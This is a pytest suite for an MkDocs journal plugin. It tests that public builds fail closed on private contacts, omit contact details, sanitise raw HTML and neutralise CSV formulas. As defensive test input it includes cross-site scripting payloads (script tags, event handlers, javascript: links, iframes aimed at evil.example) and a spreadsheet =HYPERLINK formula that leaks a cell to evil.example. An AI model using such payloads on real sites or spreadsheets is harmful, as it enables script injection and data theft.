"""`--public` fails closed (SPEC §8): hostile journals built with real MkDocs builds, and every file
of the output (HTML, search index, sitemap and its .gz, .ics, CSV export) searched for the private
person's name (with and without accents), surname, slug, e-mail and phone. Also: contact details
stay out unless opted in, raw HTML in journal bodies is sanitised, and CSV cells never run."""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote

import pytest
from click.testing import CliRunner, Result
from coffeechat.cli import main
from coffeechat.derive.public import Mentions
from coffeechat.render.sanitise import clean
from site_fixtures import REPO, TODAY, build, copy_journal

MKDOCS = """\
site_name: Shared journal
site_url: https://example.org/journal/
docs_dir: pages
theme:
  name: material
  font: false
markdown_extensions:
  - attr_list
  - tables
  - toc:
      permalink: true
plugins:
  - search
  - coffeechat:
      owner_name: Jordan Reyes
      owner_email: jordan@owner.example
"""
# The private person, and every way the output could give them away.
ANA = """\
---
name: Ana Lucía Núñez
company: Enoch Pratt Free Library
email: ana.secret@pratt.example
phone: 410-555-0199
{private}
outreach:
  - {{date: 2026-11-01, event: sent, channel: email}}
  - {{date: 2026-11-03, event: scheduled, meeting: 2026-11-25}}
---

Ana runs the Highlandtown branch.
"""
SECRETS = (
    "Ana Lucía Núñez",
    "Ana Lucia Nunez",
    "Núñez",
    "Nunez",
    "ana-lucia-nunez",
    "ana.secret@pratt.example",
    "410-555-0199",
)
BOB = """\
---
name: Bob Public
company: Harbor Welding
email: bob@harbor.example
phone: +1 410 555 0100
outreach:
  - {date: 2026-11-02, event: sent, channel: email}
---

Bob is a welding inspector.
"""
BOB_NOTE = """\
---
contact: bob-public
date: 2026-11-10
follow_ups:
  - {task: Send Bob the article, due: 2026-11-30}
---

## How did you get started?

Apprenticeship first, then the inspection course.
"""


def journal(root: Path, files: dict[str, str | bytes]) -> Path:
    """A journal with Bob (public) and the given files; Ana's file unless one is given."""
    base: dict[str, str | bytes] = {
        "mkdocs.yml": MKDOCS,
        "pages/about.md": "# About\n\nConversations about careers.\n",
        "contacts/bob-public.md": BOB,
        "notes/2026-11-10-bob-public.md": BOB_NOTE,
        "notes/2026-11-12-ana-lucia-nunez.md": (
            "---\ncontact: ana-lucia-nunez\ndate: 2026-11-12\n---\n\n"
            "## How did you get started?\n\nAna started as a page at the library.\n"
        ),
    }
    for name, content in {**base, **files}.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return root


def everything(folder: Path) -> dict[str, str]:
    """Every output file as searchable text: .gz unpacked, JSON strings, HTML entities and
    percent-encoding decoded, so `N\\u00fa\\u00f1ez`, `N&uacute;&ntilde;ez` or `N%C3%BAñez` count."""
    found = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if path.suffix == ".gz":
            data = gzip.decompress(data)
        text = data.decode("utf-8", errors="replace")
        if path.suffix == ".json":
            text = json.dumps(json.loads(text), ensure_ascii=False)
        found[path.relative_to(folder).as_posix()] = unquote(html.unescape(text))
    return found


def leaks(texts: dict[str, str], secrets: tuple[str, ...] = SECRETS) -> list[tuple[str, str]]:
    return [
        (name, secret)
        for name, text in texts.items()
        for secret in secrets
        if secret.casefold() in text.casefold()
    ]


def public_build(root: Path, *args: str) -> tuple[Path, Result]:
    site = root.parent / f"site-{root.name}"
    result = build(root, site, "--public", *args)
    assert result.exit_code == 0, result.output
    return site, result


def export(root: Path, *args: str) -> str:
    result = CliRunner().invoke(
        main, ["--journal", str(root), "export", *args], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")


def assert_public_without_ana(root: Path) -> dict[str, str]:
    """Build publicly and export publicly; nothing names Ana; Bob is there."""
    site, _ = public_build(root)
    texts = everything(site)
    texts["contacts.csv"] = export(root, "csv", "--public", "--today", TODAY)
    texts["notes.csv"] = export(root, "csv", "--notes", "--public")
    texts["contacts.vcf"] = export(root, "vcard", "--public")
    assert {"sitemap.xml", "sitemap.xml.gz", "search/search_index.json", "follow-ups.ics"} <= set(
        texts
    )
    assert leaks(texts) == []
    assert "Bob Public" in texts["contacts/bob-public/index.html"]
    return texts


# -- a private value that is not a clear false ---------------------------------------------------


@pytest.mark.parametrize(
    "private",
    [
        "private: true",
        'private: "true"',
        "private: 'Yes'",
        "private: 1",
        "private: on",
        'private: "TRUE "',
        "Private: true",  # a key in the wrong case
        "privat: yes",  # a misspelt key
        "private: maybe",  # unclear: private, and `check` says so
        "private:",  # no value
        "private: [true]",
        "private: 2026-02-30",  # not even a date
        "private: false\nprivate: true",  # written twice
        "private: true\nprivate: false",
    ],
)
def test_unclear_private_values_count_as_private(tmp_path: Path, private: str) -> None:
    root = journal(tmp_path / "j", {"contacts/ana-lucia-nunez.md": ANA.format(private=private)})
    assert_public_without_ana(root)


@pytest.mark.parametrize(
    "public", ["private: false", 'private: "false"', "private: no", "private: 0"]
)
def test_a_clear_false_is_published(tmp_path: Path, public: str) -> None:
    root = journal(tmp_path / "j", {"contacts/ana-lucia-nunez.md": ANA.format(private=public)})
    site, _ = public_build(root)
    assert "Ana Lucía Núñez" in (site / "contacts/ana-lucia-nunez/index.html").read_text("utf-8")


def test_check_reports_unclear_private_values(tmp_path: Path) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: maybe"),
            "contacts/cy.md": "---\nname: Cy\nprivate: 'yes'\n---\n",
        },
    )
    result = CliRunner().invoke(main, ["--journal", str(root), "check"])
    assert result.exit_code == 1
    assert (
        "contacts/ana-lucia-nunez.md:6: error: `private` should be true or false, not “maybe”; "
        "until it is, the contact is treated as private" in result.output
    )
    assert (
        "contacts/cy.md:3: warning: write `private: true` (no quotes, no number)" in result.output
    )


# -- a contact file that cannot be read ------------------------------------------------------------


@pytest.mark.parametrize(
    "broken",
    [
        ANA.format(private="").replace("company: Enoch", "company: Enoch: Pratt"),  # bad YAML
        ANA.format(private="").replace("\noutreach:", "\n\toutreach:"),  # a tab
        ANA.format(private="").replace("phone: 410", 'phone: "410'),  # unclosed quote
        ANA.format(private="").replace("---\n\nAna", "\nAna"),  # front matter never closed
        ANA.format(private="").encode("utf-8").replace(b"Pratt", b"Pr\xe4tt"),  # not UTF-8
        ANA.format(private="").replace("name:", "- name:"),  # a list, not key: value lines
    ],
    ids=["colon", "tab", "quote", "unclosed", "latin-1", "list"],
)
def test_an_unreadable_contact_is_private(tmp_path: Path, broken: str | bytes) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": broken,
            # Another note names her by title and surname only: known from her file's name line.
            "notes/2026-11-13-bob-public.md": (
                "---\ncontact: bob-public\ndate: 2026-11-13\n---\n\nBob knows Dr. Núñez well.\n"
            ),
        },
    )
    texts = assert_public_without_ana(root)
    assert "notes/2026-11-13-bob-public/index.html" not in texts


# -- notes and contacts that name a private person -------------------------------------------------

NAMING_NOTES = {
    "cased-slug": "---\ncontact: Ana-Lucia-Nunez\ndate: 2026-11-14\n---\n\nGood talk.\n",
    "upper-slug": "---\ncontact: [bob-public, ANA-LUCIA-NUNEZ]\ndate: 2026-11-14\n---\n\nHi.\n",
    "by-name": "---\ncontact: Ana Lucía Núñez\ndate: 2026-11-14\n---\n\nGood talk.\n",
    "group": "---\ncontact: [bob-public, ana-lucia-nunez]\ndate: 2026-11-14\n---\n\nBoth.\n",
    "title-surname": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nMs. Nunez says hi.\n",
    "doctor": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nAsk Dr. Ana Núñez.\n",
    "no-accents": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nana lucia NUNEZ.\n",
    "first-last": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nMet Ana Núñez.\n",
    "surname-first": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nNÚÑEZ, Ana (Pratt)\n",
    "spanish-title": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nLa Sra. Núñez.\n",
    "e-mail": "---\ncontact: bob-public\ndate: 2026-11-14\n---\n\nana.secret@pratt.example\n",
    "task": (
        "---\ncontact: bob-public\ndate: 2026-11-14\nfollow_ups:\n"
        "  - {task: Call Ms. Núñez, due: 2026-11-30}\n---\n\nFine.\n"
    ),
    "facts": "---\ncontact: bob-public\ndate: 2026-11-14\nfacts:\n  mentor: Ana Núñez\n---\n",
    "own-key": "---\ncontact: bob-public\ndate: 2026-11-14\nmet_with: ana-lucia-nunez\n---\n",
}


@pytest.mark.parametrize("note", sorted(NAMING_NOTES))
def test_a_note_naming_a_private_person_is_left_out(tmp_path: Path, note: str) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: true"),
            "notes/2026-11-14-talk.md": NAMING_NOTES[note],
        },
    )
    texts = assert_public_without_ana(root)
    assert "notes/2026-11-14-talk/index.html" not in texts
    assert "notes/2026-11-10-bob-public/index.html" in texts  # Bob's own note is still there


@pytest.mark.parametrize(
    "referral",
    [
        "referrals: [ana-lucia-nunez]",
        "referrals: [Ana-Lucia-Nunez]",
        "referrals:\n  - {name: Dr. Ana Núñez, company: Pratt}",
        "referrals:\n  - {name: Ana Lucía Núñez}",
        "referrals:\n  - {name: Ms. Nunez}",
        "referrals:\n  - {name: Cy Lead, note: works with Ana Núñez}",
    ],
)
def test_referrals_naming_a_private_person_are_dropped(tmp_path: Path, referral: str) -> None:
    note = (
        f"---\ncontact: bob-public\ndate: 2026-11-14\n{referral}\n"
        "  - {name: Dee Lead, company: Pratt}\n---\n\nBob suggested two people.\n"
    )
    note = note.replace("referrals: [", "referrals:\n  - ").replace(
        "]\n  - {name: Dee", "\n  - {name: Dee"
    )
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: true"),
            "notes/2026-11-14-talk.md": note,
        },
    )
    texts = assert_public_without_ana(root)
    shown = texts["notes/2026-11-14-talk/index.html"]
    assert "Bob suggested two people." in shown and "Dee Lead" in shown  # the note stays


@pytest.mark.parametrize(
    "referred_by", ["ana-lucia-nunez", "Ana-Lucia-Nunez", "Ana Lucía Núñez", "Ms. Nunez", "ana-l-n"]
)
def test_referred_by_a_private_person_is_dropped(tmp_path: Path, referred_by: str) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: yes"),
            "contacts/bob-public.md": BOB.replace(
                "company:", f"referred_by: {referred_by}\ncompany:"
            ),
        },
    )
    texts = assert_public_without_ana(root)
    assert "Referred by" not in texts["contacts/bob-public/index.html"]
    assert leaks(texts, ("ana-l-n",)) == []


def test_a_contact_whose_own_text_names_a_private_person_is_left_out(tmp_path: Path) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: true"),
            "contacts/cy-colleague.md": "---\nname: Cy Colleague\n---\n\nWorks with Ana Núñez.\n",
            "notes/2026-11-15-cy-colleague.md": "---\ncontact: cy-colleague\ndate: 2026-11-15\n---\n",
        },
    )
    _, result = public_build(root)
    texts = assert_public_without_ana(root)
    assert not any("Cy Colleague" in text for text in texts.values())
    assert "left out contacts/cy-colleague.md (it names a private contact)" in result.output
    assert "left out contacts/ana-lucia-nunez.md (private)" in result.output


def test_a_note_about_someone_without_a_readable_file_is_left_out(tmp_path: Path) -> None:
    """The privacy of a contact with no file (skipped `_private/`, deleted) cannot be established."""
    root = journal(
        tmp_path / "j",
        {
            "contacts/_private/ana-lucia-nunez.md": ANA.format(private="private: true"),
            "notes/2026-11-12-ana-lucia-nunez.md": "---\ncontact: ana-lucia-nunez\ndate: 2026-11-12\n---\n",
            "notes/2026-11-13-eve.md": "---\ncontact: eve-unknown\ndate: 2026-11-13\n---\n\nEve.\n",
            "notes/2026-11-14-marked.md": "---\ncontact: bob-public\ndate: 2026-11-14\nprivate: true\n---\n",
        },
    )
    site, result = public_build(root)
    texts = everything(site)
    assert leaks(texts, ("ana-lucia-nunez", "eve-unknown", "2026-11-14-marked")) == []
    assert "left out notes/2026-11-14-marked.md (the note is marked private)" in result.output


def test_the_users_own_pages_naming_a_private_person_are_left_out(tmp_path: Path) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="private: true"),
            "pages/targets.md": "# Targets\n\n- Dr. Núñez at Pratt\n",
            "pages/targets.csv": "name\nAna Lucía Núñez\n",
            "pages/pitch.md": "# Pitch\n\nI fix things.\n",
        },
    )
    texts = assert_public_without_ana(root)
    assert "pitch/index.html" in texts and "targets/index.html" not in texts


def test_the_example_journal_with_a_private_contact(tmp_path: Path) -> None:
    root = copy_journal(REPO, tmp_path / "example")
    luis = root / "contacts" / "luis-ferreira.md"
    luis.write_text(luis.read_text("utf-8").replace("---\n", "---\nprivate: 'yes'\n", 1), "utf-8")
    site, _ = public_build(root)
    texts = everything(site)
    texts["contacts.csv"] = export(root, "csv", "--public", "--today", TODAY)
    texts["notes.csv"] = export(root, "csv", "--notes", "--public")
    secrets = ("Luis Ferreira", "Ferreira", "luis-ferreira", "lferreira@", "410-555-0182")
    assert leaks(texts, secrets) == []
    # Denise's note names him, so it is left out; Denise herself and other notes stay.
    assert "contacts/denise-carter/index.html" in texts
    assert "notes/2026-10-21-denise-carter/index.html" not in texts
    assert "notes/2026-11-20-terrence-oduya/index.html" in texts


# -- contact details -----------------------------------------------------------------------------

DETAILS = ("bob@harbor.example", "410 555 0100", "mailto:", "tel:", "jordan@owner.example")


def test_public_builds_leave_out_contact_details_and_drafts(tmp_path: Path) -> None:
    root = journal(tmp_path / "j", {"contacts/ana-lucia-nunez.md": ANA.format(private="")})
    root.joinpath("contacts/bob-public.md").write_text(
        BOB.replace("company:", "mobile: 443-555-0101\nwork_email: b@w.example\ncompany:"), "utf-8"
    )
    site, _ = public_build(root)
    texts = everything(site)
    texts["contacts.csv"] = export(root, "csv", "--public", "--today", TODAY)
    texts["contacts.vcf"] = export(root, "vcard", "--public")
    secrets = (*DETAILS, "443-555-0101", "b@w.example", "ana.secret@", "Draft a request")
    # Material's own scripts mention mailto: and tel:; every page and every export must not.
    ours = {name: text for name, text in texts.items() if not name.startswith("assets/")}
    assert leaks(ours, secrets) == []
    assert leaks(texts, secrets[:2]) == []
    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(texts["contacts.csv"], newline=""))}
    assert [(r["name"], r["email"], r["phone"]) for r in rows.values()] == [
        ("Ana Lucía Núñez", "", ""),
        ("Bob Public", "", ""),
    ]
    # A private build shows them all.
    private = build(root, tmp_path / "private")
    assert private.exit_code == 0, private.output
    card = (tmp_path / "private/contacts/bob-public/index.html").read_text("utf-8")
    assert "mailto:bob@harbor.example" in card and "Draft a request" in card


@pytest.mark.parametrize("how", ["option", "flag"])
def test_contact_details_can_be_opted_in(tmp_path: Path, how: str) -> None:
    root = journal(tmp_path / "j", {"contacts/ana-lucia-nunez.md": ANA.format(private="")})
    args: tuple[str, ...] = ()
    if how == "option":
        config = MKDOCS.replace("owner_name:", "public_contact_details: true\n      owner_name:")
        root.joinpath("mkdocs.yml").write_text(config, "utf-8")
    else:
        args = ("--public-contact-details",)
    site, _ = public_build(root, *args)
    card = (site / "contacts/bob-public/index.html").read_text("utf-8")
    assert "mailto:bob@harbor.example" in card and "Draft a request" in card
    exported = export(root, "csv", "--public", "--public-contact-details", "--today", TODAY)
    assert "bob@harbor.example" in exported


# -- raw HTML in journal bodies --------------------------------------------------------------------

HOSTILE = """\
<script>alert("body")</script>
<img src="https://tracker.example/pixel.gif" onerror="alert('img')" alt="pixel">
<img src="//cdn.example/x.png"><img src="photo.png" alt="local">
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<a href="javascript:alert('link')">click me</a>
<a href="https://www.example.org/article">an article</a>
<div style="background: url(https://evil.example/bg.png)" onclick="alert(1)">styled</div>
<svg onload="alert('svg')"><circle r="4"/></svg>
<link rel="stylesheet" href="https://evil.example/x.css">
<!--cc--><script>alert("smuggled past the sanitiser")</script><!--/cc-->
<!--cc-->
<iframe src="https://evil.example/marked"></iframe>

[md link](javascript:alert('md')) and ![md image](https://tracker.example/md.png)
"""


def test_sanitiser_strips_what_runs_or_loads_from_elsewhere() -> None:
    cleaned = clean(
        '<script>alert(1)</script><img src="https://x.example/a.png" onerror="alert(2)">'
        '<a href="javascript:alert(3)">j</a><iframe src="https://x.example"></iframe>'
        '<img src="//x.example/b.png"><img src="/\\x.example/c.png"><img src="ok.png">'
        '<a href="https://ok.example/">ok</a><p onmouseover="x()">text</p>'
    )
    for bad in ("<script", "alert(1)", "onerror", "javascript:", "<iframe", "x.example", "onmouse"):
        assert bad not in cleaned
    assert '<img src="ok.png">' in cleaned and '<a href="https://ok.example/">ok</a>' in cleaned
    assert "<p>text</p>" in cleaned


@pytest.mark.parametrize("public", [False, True])
def test_journal_bodies_are_sanitised_in_every_build(tmp_path: Path, public: bool) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private="").replace("Ana runs", HOSTILE),
            "notes/2026-11-10-bob-public.md": BOB_NOTE + "\n" + HOSTILE,
        },
    )
    site = tmp_path / "site"
    result = build(root, site, *(["--public"] if public else []))
    assert result.exit_code == 0, result.output
    for address in ("contacts/ana-lucia-nunez", "notes/2026-11-10-bob-public"):
        page = (site / address / "index.html").read_text("utf-8")
        content = page[page.index('<article class="md-content__inner') : page.index("</article>")]
        for bad in ("<script", "alert(", "onerror", "onclick", "onload", "javascript:", "<iframe",
                    "<object", "tracker.example", "cdn.example", "evil.example", "<svg"):  # fmt: skip
            assert bad not in content, (address, bad)
        assert 'src="photo.png"' in content and "click me" in content and "md link" in content
        assert '<a href="https://www.example.org/article">an article</a>' in content
        assert 'class="cc-card"' in content  # coffeechat's own HTML is untouched
    compared = [p for p in site.glob("compare/*/index.html") if "Apprenticeship" in p.read_text()]
    assert compared, "the note's section is on a comparison page"
    for path in compared:
        text = path.read_text("utf-8")
        content = text[text.index('<article class="md-content__inner') : text.index("</article>")]
        assert "<script" not in content and "evil.example" not in content, path
    dashboard = (site / "index.html").read_text("utf-8")
    assert "<svg" in dashboard and 'class="cc-pipeline"' in dashboard


# -- mentions ------------------------------------------------------------------------------------


def test_mentions_find_a_name_in_its_variants_only() -> None:
    found = Mentions.of(["Dr. Siobhán O'Brien-Núñez, PhD"], ["siobhan-obrien"], ["s@x.example"])
    for text in (
        "siobhan obrien-nunez",
        "Ms. O'Brien",
        "Mrs OBrien",
        "Prof. Núñez",
        "SIOBHAN-OBRIEN",
        "mail S@X.example",
        "Siobhán O'Brien's advice",
    ):
        assert found.in_text(text), text
    for text in (
        "Siobhan",
        "Siobhán's advice",
        "Brien",
        "Sara Nunez-Smith",
        "Dr. Smith",
        "ob rien",
    ):
        assert not found.in_text(text), text


# -- spreadsheets --------------------------------------------------------------------------------


def test_csv_cells_that_would_run_are_neutralised(tmp_path: Path) -> None:
    root = tmp_path / "j"
    files = {
        "contacts/a.md": '---\nname: "=1+2"\ncompany: "+SUM(A1)"\nrole: "-2+3"\nfield: "@SUM(1)"\n---\n',
        "contacts/b.md": '---\nname: "\\tTab"\ncompany: "\\rReturn"\nlocation: "Plain, MD"\n---\n',
        "notes/2026-11-01-a.md": '---\ncontact: a\ndate: 2026-11-01\nformat: "=cmd"\n---\n',
    }
    journal(root, files)
    rows = list(csv.reader(io.StringIO(export(root, "csv", "--today", TODAY), newline="")))
    a = dict(zip(rows[0], rows[1], strict=True))
    b = dict(zip(rows[0], rows[2], strict=True))
    assert (a["name"], a["company"], a["role"], a["field"]) == (
        "'=1+2",
        "'+SUM(A1)",
        "'-2+3",
        "'@SUM(1)",
    )
    assert (b["name"], b["company"], b["location"]) == ("'\tTab", "'\rReturn", "Plain, MD")
    notes = list(csv.DictReader(io.StringIO(export(root, "csv", "--notes"), newline="")))
    [note] = [n for n in notes if n["note"] == "2026-11-01-a"]
    assert (note["format"], note["date"], note["contacts"]) == ("'=cmd", "2026-11-01", "a")


def test_a_linkedin_formula_name_round_trip(tmp_path: Path) -> None:
    root = journal(tmp_path / "j", {"contacts/ana-lucia-nunez.md": ANA.format(private="")})
    connections = tmp_path / "Connections.csv"
    connections.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",Smith,'
        "https://www.linkedin.com/in/x,,@Acme,-Boss,01 Nov 2026\n",
        "utf-8",
    )
    imported = CliRunner().invoke(
        main, ["--journal", str(root), "import", "linkedin", str(connections)]
    )
    assert imported.exit_code == 0, imported.output
    rows = list(csv.DictReader(io.StringIO(export(root, "csv", "--today", TODAY), newline="")))
    [smith] = [r for r in rows if "Smith" in r["name"]]
    assert smith["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me") Smith'
    assert (smith["company"], smith["role"]) == ("'@Acme", "'-Boss")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_plain_mkdocs_build_with_public_true_in_mkdocs_yml(tmp_path: Path) -> None:
    root = journal(
        tmp_path / "j",
        {
            "contacts/ana-lucia-nunez.md": ANA.format(private='private: "1"'),
            "mkdocs.yml": MKDOCS.replace("owner_name:", "public: true\n      owner_name:"),
            "notes/2026-11-14-talk.md": NAMING_NOTES["title-surname"],
        },
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("COFFEECHAT_")}
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--site-dir", str(tmp_path / "site")],
        cwd=root,
        env={**env, "COFFEECHAT_TODAY": TODAY, "NO_MKDOCS_2_WARNING": "1"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "public build: left out notes/2026-11-14-talk.md" in done.stderr
    texts = everything(tmp_path / "site")
    assert leaks(texts) == [] and leaks(texts, DETAILS[:2]) == []
    assert "Bob Public" in texts["contacts/bob-public/index.html"]
